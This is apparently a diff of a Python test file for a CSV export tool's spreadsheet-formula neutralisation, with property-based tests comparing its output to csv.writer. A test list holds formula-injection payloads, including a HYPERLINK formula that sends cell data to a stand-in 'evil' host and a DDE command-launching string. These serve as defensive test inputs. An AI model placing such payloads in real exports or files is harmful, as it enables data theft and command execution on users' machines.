@@ -2,15 +2,22 @@
 from __future__ import annotations
 
 import csv
+import io
 import sqlite3
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 import planx
-from load.safety import OutputError, csv_row, neutralise_formula, register_sql, sql_guard
+from load import SqliteSink
+from load.csv import csv_lines
+from load.safety import OutputError, csv_row, neutralise_formula
+from load.schema import TABLES, columns
+from tests.conftest import ROOT
 
 HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"]
 OUTPUTS = {"documents.csv", "actions.csv", "milestones.csv", "ratings.csv", "indicators.csv", "leftovers.csv",
@@ -31,17 +38,34 @@ def test_csv_row_checks_every_character_a_formula_can_start_with():
     assert csv_row([None, 3, 2.5, "=1+1", "plain"]) == ["", 3, 2.5, "'=1+1", "plain"]
 
 
-def test_sql_guard_neutralises_like_the_python_rule():
-    """export_csv neutralises in SQL: the same answer as neutralise_formula for every start."""
-    con = sqlite3.connect(":memory:")
-    register_sql(con)
-    con.execute("CREATE TABLE t (v TEXT, n INTEGER)")
-    values = [chr(c) + "SUM(A1)" for c in [*range(1, 0x3000), *range(0xFF00, 0xFF70)] if not 0xD800 <= c < 0xE000]
-    values += ["-27%", "+5", " =1", "\n=1", ""]
-    con.executemany("INSERT INTO t VALUES (?, -3)", [(v,) for v in values])
-    got = con.execute(f"SELECT {sql_guard('v', 'TEXT')}, {sql_guard('n', 'INTEGER')} FROM t").fetchall()
-    assert [g[0] for g in got] == [neutralise_formula(v) for v in values]
-    assert {g[1] for g in got} == {-3}
+FIELDS = st.one_of(st.sampled_from(["", ",", '"', "\n", "\r\n", "-27%", " =1", "a,b", 'say "x"', "=1+1", "＝1", "@x",
+                                     "\tx", "plain"] + HOSTILE), st.text(max_size=12))
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.lists(FIELDS, min_size=3, max_size=3), max_size=6))
+def test_csv_lines_write_what_csv_writer_writes(rows):
+    """export_csv joins most lines in C and writes only the others field by field: byte for
+    byte what csv.writer writes after csv_row, whatever the fields hold."""
+    expected = io.StringIO(newline="")
+    csv.writer(expected, lineterminator="\r\n").writerows(map(csv_row, rows))
+    assert "".join(csv_lines(rows, 3)) == expected.getvalue()
+
+
+def test_export_csv_equals_csv_writer_over_the_database(tmp_path):
+    """The whole export (NULLs, numbers, text through SQL) against csv.writer over the same rows."""
+    out = tmp_path / "out"
+    planx.convert([_plan(tmp_path), ROOT / "samples"], out=out)
+    sink = SqliteSink(out / "plans.sqlite")
+    try:
+        for table in TABLES:
+            expected = io.StringIO(newline="")
+            writer = csv.writer(expected, lineterminator="\r\n")
+            writer.writerow(columns(table))
+            writer.writerows(map(csv_row, sink.iter_rows(table)))
+            assert (out / f"{table}.csv").read_bytes().decode("utf-8") == expected.getvalue(), table
+    finally:
+        sink.close()
 
 
 def _plan(folder: Path) -> Path:
